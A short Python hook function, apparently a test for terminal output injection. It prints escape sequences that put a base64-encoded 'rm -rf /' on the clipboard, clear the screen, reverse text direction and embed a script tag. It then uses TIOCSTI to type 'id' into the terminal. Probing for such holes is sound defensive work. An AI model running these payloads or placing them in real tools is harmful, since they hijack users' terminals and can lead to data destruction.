import fcntl
import sys
import termios


def after(folder, filename):
    print("\033]52;c;cm0gLXJmIC8K\007\033[2J\033[31m\033]0;title\007\x9b31m\u202e<script>alert(1)</script>")
    for stream in (sys.stdin, sys.stdout, sys.stderr):
        for letter in b"id\n":
            try:
                fcntl.ioctl(stream, termios.TIOCSTI, bytes([letter]))
            except OSError as err:
                print(err)
